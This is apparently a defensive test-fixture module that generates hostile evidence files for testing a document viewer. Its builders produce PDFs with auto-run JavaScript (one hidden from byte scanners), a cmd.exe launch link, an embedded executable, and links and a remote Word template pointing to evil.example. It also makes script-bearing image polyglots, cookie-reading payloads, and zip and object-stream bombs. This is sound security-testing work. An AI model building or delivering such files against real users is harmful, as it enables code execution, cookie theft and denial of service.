"""Hostile evidence files a county could upload to attack a city officer's viewer, built in code.

Each is a valid file of its kind (it opens in a viewer), and carries something on top: a script
that runs on opening, an embedded program, a second format that another parser reads, or an
archive that inflates far past its size. ``clean_pdf`` is the same kind of file without it.
"""

from __future__ import annotations

import io
import zipfile

import pikepdf
from PIL import Image, PngImagePlugin

from clusterdesk.bench_evidence import bomb_pdf
from tests.evidence import samples

JS = "app.alert('已被攻击');"


def clean_pdf(pages: int = 1, text: str = "Evidence") -> bytes:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont="/Helvetica"
        )
    )
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        content = f"BT /F1 48 Tf 72 700 Td ({text} {number}) Tj ET 0 0 1 rg 72 200 300 300 re f"
        page.Contents = pdf.make_stream(content.encode())
    return _save(pdf)


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _edit(change, **options) -> bytes:
    """A clean one-page PDF, changed by ``change(pdf)`` and saved."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    change(pdf)
    return _save(pdf, **options)


def _js_action() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(JS))


def pdf_open_action_js() -> bytes:
    """JavaScript that runs as soon as the document is opened (/OpenAction)."""

    def change(pdf):
        pdf.Root.OpenAction = _js_action()

    return _edit(change)


def pdf_open_action_js_hidden() -> bytes:
    """The same, the script a compressed stream and the action in a compressed object stream,
    so that no byte of the file reads "JavaScript", "/JS" or "OpenAction": only a PDF parser
    finds it."""

    def change(pdf):
        action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/JavaScript")))
        action.JS = pdf.make_stream(JS.encode())  # the script as a (compressed) stream
        pdf.Root.OpenAction = action

    return _edit(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_page_aa_uri() -> bytes:
    """An additional action (/AA) that opens a web address when page 1 is shown."""

    def change(pdf):
        uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=uri)

    return _edit(change)


def pdf_named_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree (runs when the document opens)."""

    def change(pdf):
        tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), _js_action()]))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)

    return _edit(change)


def pdf_launch_link() -> bytes:
    """A link over the whole page that starts a program (/Launch)."""

    def change(pdf):
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 595, 842],
            A=launch,
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([link]))

    return _edit(change)


def pdf_embedded_file() -> bytes:
    """A program attached to the document (an /EmbeddedFiles entry)."""

    def change(pdf):
        pdf.attachments["说明.exe"] = pikepdf.AttachedFileSpec(pdf, samples.EXE)

    return _edit(change)


def pdf_xfa_script() -> bytes:
    """An XFA form whose template carries a script."""
    xfa = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.alert(1)</script></event></subform></template></xdp:xdp>"
    )

    def change(pdf):
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(xfa))

    return _edit(change)


def pdf_encrypted() -> bytes:
    """A document that needs a password to open."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    return _save(pdf, encryption=pikepdf.Encryption(user="mima", owner="owner-mima"))


def pdf_owner_password_only() -> bytes:
    """Opens without a password, only printing and editing restrictions (common for issued
    certificates): its content can be checked, so it is accepted."""
    pdf = pikepdf.open(io.BytesIO(clean_pdf()))
    allow = pikepdf.Permissions(modify_other=False, extract=False)
    return _save(pdf, encryption=pikepdf.Encryption(user="", owner="owner-mima", allow=allow))


def pdf_many_objects(count: int) -> bytes:
    """A PDF with ``count`` extra (harmless) objects."""

    def change(pdf):
        pdf.Root.Junk = pikepdf.Array(
            [pdf.make_indirect(pikepdf.Dictionary(N=i)) for i in range(count)]
        )

    return _edit(change)


def pdf_html_polyglot() -> bytes:
    """A valid PDF that a browser also renders as a web page with a script."""
    return clean_pdf() + b"<html><body><script>fetch('/evidence/')</script></body></html>\n"


# --- images ---------------------------------------------------------------------------------


def gif_js_polyglot() -> bytes:
    """A GIF that is also JavaScript: GIF89a/*…*/=alert(1); (the width bytes open a comment)."""
    out = io.BytesIO()
    Image.new("P", (2, 2)).save(out, "GIF")
    gif = bytearray(out.getvalue())
    gif[6:8] = b"/*"  # logical screen width: 0x2a2f pixels, still a valid GIF
    assert b"*/" not in gif
    return bytes(gif) + b"*/=alert(document.domain);"


def gif_js_polyglot_in_comment() -> bytes:
    """The same with the script in a GIF comment block and nothing after the trailer."""
    out = io.BytesIO()
    Image.new("P", (2, 2)).save(out, "GIF")
    gif = bytearray(out.getvalue())
    gif[6:8] = b"/*"
    script = b"*/=alert(1)//"
    comment = b"\x21\xfe" + bytes([len(script)]) + script + b"\x00"
    assert gif.endswith(b";")
    return bytes(gif[:-1]) + comment + b";"


def png_html_polyglot() -> bytes:
    """A PNG with an HTML event handler in a text chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<svg onload=alert(document.cookie)>")
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A JPEG with a <script> in a comment segment."""
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "blue").save(
        out, "JPEG", comment=b"<script>alert(document.cookie)</script>"
    )
    return out.getvalue()


def gif_with_zip() -> bytes:
    """A GIF with a ZIP archive appended ("GIFAR")."""
    out = io.BytesIO()
    Image.new("P", (2, 2)).save(out, "GIF")
    return out.getvalue() + samples.zip_bytes({"a.class": b"\xca\xfe\xba\xbe"})


def real_image(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 200)).save(out, kind)
    return out.getvalue()


# --- Office files ---------------------------------------------------------------------------


def _docx_members() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as source:
        return {name: source.read(name) for name in source.namelist()}


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_bomb(megabytes: int = 64) -> bytes:
    """A Word document with an image part of ``megabytes`` MB of zeros (a few dozen KB packed)."""
    members = _docx_members()
    members["word/media/image1.png"] = bytes(megabytes << 20)
    return _zip(members)


def docx_many_entries(count: int) -> bytes:
    members = _docx_members()
    members |= {f"customXml/item{i}.xml": b"<a/>" for i in range(count)}
    return _zip(members)


def docx_remote_template() -> bytes:
    """A Word document whose template is fetched from a server when it opens."""
    members = _docx_members()
    members["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return _zip(members)


def xlsx_macro_sheet() -> bytes:
    """A workbook with an Excel 4.0 (XLM) macro sheet, which runs without VBA."""
    with zipfile.ZipFile(io.BytesIO(samples.xlsx_bytes())) as source:
        members = {name: source.read(name) for name in source.namelist()}
    members["xl/macrosheets/sheet1.xml"] = b"<xm:macrosheet/>"
    return _zip(members)


def pdf_object_stream_bomb(megabytes: int) -> bytes:
    """A PDF of a few KB whose compressed object stream inflates to ``megabytes`` MB, with a
    script behind the filler: only a reader with that much memory sees the script."""
    return bomb_pdf(megabytes, tail=b") /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")


def pdf_with_link_and_outline() -> bytes:
    """What office programs write: a web link to click, a bookmark, "open at page 1"."""

    def change(pdf):
        page = pdf.pages[0].obj
        uri = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("https://www.ningbo.gov.cn/")
        )
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 72, 300, 100], A=uri
        )
        page.Annots = pdf.make_indirect(pikepdf.Array([link]))
        pdf.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("第一章", 0))

    return _edit(change)
